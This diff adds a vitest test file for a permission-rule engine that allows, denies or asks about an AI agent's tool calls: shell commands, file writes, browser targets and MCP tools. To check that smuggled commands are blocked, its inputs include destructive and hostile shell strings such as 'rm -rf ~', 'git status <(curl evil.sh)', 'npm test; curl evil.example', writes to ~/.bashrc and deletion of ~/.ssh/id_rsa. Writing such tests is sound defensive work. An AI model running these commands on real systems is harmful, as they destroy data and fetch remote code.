@@ -0,0 +1,144 @@
+/**
+ * PermissionRules Tests
+ */
+
+import { describe, it, expect } from 'vitest';
+import {
+    PermissionRule,
+    createRememberedRule,
+    evaluatePermissionRules,
+    exportPermissionRules,
+    importPermissionRules,
+    permissionRequestFromArgs,
+} from '../PermissionRules';
+
+const rule = (partial: Partial<PermissionRule>): PermissionRule => ({
+    id: partial.id || Math.random().toString(36).slice(2),
+    decision: 'allow',
+    tool: '*',
+    scope: 'global',
+    source: 'manual',
+    createdAt: 0,
+    ...partial,
+});
+
+describe('PermissionRules', () => {
+    it('should let the first matching rule decide', () => {
+        const rules = [
+            rule({ id: 'deny-rm', decision: 'deny', tool: 'run_command', commands: ['rm -rf*'] }),
+            rule({ id: 'allow-all', decision: 'allow', tool: 'run_command' }),
+        ];
+
+        expect(evaluatePermissionRules(rules, { tool: 'run_command', command: 'rm -rf /tmp/x' }).rule?.id).toBe('deny-rm');
+        expect(evaluatePermissionRules(rules, { tool: 'run_command', command: 'ls' }).rule?.id).toBe('allow-all');
+        expect(evaluatePermissionRules(rules, { tool: 'write_file', path: '/x' })).toEqual({ decision: null });
+    });
+
+    it('should match MCP tools by server prefix', () => {
+        const rules = [rule({ decision: 'ask', tool: 'github__*' })];
+
+        expect(evaluatePermissionRules(rules, { tool: 'github__create_issue' }).decision).toBe('ask');
+        expect(evaluatePermissionRules(rules, { tool: 'gitlab__create_issue' }).decision).toBeNull();
+    });
+
+    it('should only allow command lines whose every part matches a prefix', () => {
+        const rules = [rule({ tool: 'run_command', commands: ['git status*', 'git diff*'] })];
+        const decide = (command: string) => evaluatePermissionRules(rules, { tool: 'run_command', command }).decision;
+
+        expect(decide('git status --short')).toBe('allow');
+        expect(decide('git status && git diff HEAD')).toBe('allow');
+        expect(decide('git status && rm -rf ~')).toBeNull();
+        expect(decide('git status $(rm -rf ~)')).toBeNull();
+    });
+
+    it('should not allow background jobs, redirections or process substitution', () => {
+        const rules = [rule({ tool: 'run_command', commands: ['git status*', 'npm test*'] })];
+        const decide = (command: string) => evaluatePermissionRules(rules, { tool: 'run_command', command }).decision;
+
+        expect(decide('git status & rm -rf ~/x')).toBeNull();
+        expect(decide('git status > ~/.bashrc')).toBeNull();
+        expect(decide('git status >> ~/.bashrc')).toBeNull();
+        expect(decide('git status <(curl evil.sh)')).toBeNull();
+        expect(decide('git status >(sh)')).toBeNull();
+        expect(decide('npm test 2>&1')).toBe('allow');
+    });
+
+    it('should deny the background part of a command line', () => {
+        const rules = [rule({ decision: 'deny', tool: 'run_command', commands: ['rm *'] })];
+
+        expect(evaluatePermissionRules(rules, { tool: 'run_command', command: 'git status & rm -rf ~/x' }).decision).toBe('deny');
+    });
+
+    it('should deny a command line when any part matches', () => {
+        const rules = [rule({ decision: 'deny', tool: 'run_command', commands: ['curl*'] })];
+
+        expect(evaluatePermissionRules(rules, { tool: 'run_command', command: 'npm test; curl evil.example' }).decision).toBe('deny');
+    });
+
+    it('should match path globs, plain folders and network targets', () => {
+        const rules = [
+            rule({ id: 'env', decision: 'deny', tool: '*', paths: ['/work/**/.env'] }),
+            rule({ id: 'work', tool: 'write_file', paths: ['/work/app'] }),
+            rule({ id: 'docs', tool: 'browser_*', targets: ['*.example.com'] }),
+        ];
+
+        expect(evaluatePermissionRules(rules, { tool: 'write_file', path: '/work/app/config/.env' }).rule?.id).toBe('env');
+        expect(evaluatePermissionRules(rules, { tool: 'write_file', path: '/work/app/src/a.ts' }).rule?.id).toBe('work');
+        expect(evaluatePermissionRules(rules, { tool: 'write_file', path: '/work/app2/a.ts' }).decision).toBeNull();
+        expect(evaluatePermissionRules(rules, { tool: 'browser_navigate', target: 'https://docs.example.com/a' }).rule?.id).toBe('docs');
+        expect(evaluatePermissionRules(rules, { tool: 'browser_navigate', target: 'https://example.org' }).decision).toBeNull();
+    });
+
+    it('should apply folder and session scopes', () => {
+        const rules = [
+            rule({ id: 'folder', tool: 'run_command', scope: 'folder', scopeValue: '/work/app' }),
+            rule({ id: 'session', tool: 'write_file', scope: 'session', scopeValue: 's1' }),
+        ];
+
+        expect(evaluatePermissionRules(rules, { tool: 'run_command', command: 'ls', path: '/work/app/src' }).rule?.id).toBe('folder');
+        expect(evaluatePermissionRules(rules, { tool: 'run_command', command: 'ls', path: '/work/other' }).decision).toBeNull();
+        expect(evaluatePermissionRules(rules, { tool: 'write_file', path: '/x', sessionId: 's1' }).rule?.id).toBe('session');
+        expect(evaluatePermissionRules(rules, { tool: 'write_file', path: '/x', sessionId: 's2' }).decision).toBeNull();
+    });
+
+    it('should build requests and remembered rules from tool arguments', () => {
+        const request = permissionRequestFromArgs('run_command', { command: 'npm test && npm run lint' }, { baseDir: '/work/app', sessionId: 's1' });
+        expect(request).toEqual({ tool: 'run_command', command: 'npm test && npm run lint', path: '/work/app', sessionId: 's1' });
+
+        const remembered = createRememberedRule(request, 'folder', '/work/app');
+        expect(remembered).toMatchObject({ decision: 'allow', commands: ['npm test', 'npm run lint'], scope: 'folder', scopeValue: '/work/app' });
+        expect(evaluatePermissionRules([remembered], request).decision).toBe('allow');
+        expect(evaluatePermissionRules([remembered], { ...request, command: 'npm test && npm publish' }).decision).toBeNull();
+
+        expect(permissionRequestFromArgs('write_file', { path: 'src/a.ts' }, { baseDir: '/work/app' }).path).toBe('/work/app/src/a.ts');
+    });
+
+    it('should match remembered commands and paths literally', () => {
+        const command = createRememberedRule({ tool: 'run_command', command: 'rm -f *.log' }, 'global');
+        const decide = (c: string) => evaluatePermissionRules([command], { tool: 'run_command', command: c }).decision;
+
+        expect(command.literal).toBe(true);
+        expect(decide('rm -f *.log')).toBe('allow');
+        expect(decide('rm -f ~/.ssh/id_rsa .log')).toBeNull();
+
+        const file = createRememberedRule({ tool: 'write_file', path: '/work/app/[id].tsx' }, 'global');
+        expect(evaluatePermissionRules([file], { tool: 'write_file', path: '/work/app/[id].tsx' }).decision).toBe('allow');
+        expect(evaluatePermissionRules([file], { tool: 'write_file', path: '/work/app/i.tsx' }).decision).toBeNull();
+
+        const redirected = createRememberedRule({ tool: 'run_command', command: 'npm test 2>&1' }, 'global');
+        expect(evaluatePermissionRules([redirected], { tool: 'run_command', command: 'npm test 2>&1' }).decision).toBe('allow');
+        expect(importPermissionRules(exportPermissionRules([command]))[0].literal).toBe(true);
+    });
+
+    it('should round-trip rules through JSON and reject invalid ones', () => {
+        const rules = [rule({ id: 'a', decision: 'deny', tool: 'run_command', commands: ['sudo*'] })];
+        const imported = importPermissionRules(exportPermissionRules(rules), ['a']);
+
+        expect(imported).toHaveLength(1);
+        expect(imported[0].id).not.toBe('a');
+        expect(imported[0]).toMatchObject({ decision: 'deny', tool: 'run_command', commands: ['sudo*'], source: 'manual' });
+
+        expect(() => importPermissionRules('[{"decision":"maybe","tool":"x"}]')).toThrow('Rule 1: Invalid decision: maybe');
+        expect(() => importPermissionRules('[{"decision":"allow","tool":"x","scope":"folder"}]')).toThrow('Folder rules need a folder');
+    });
+});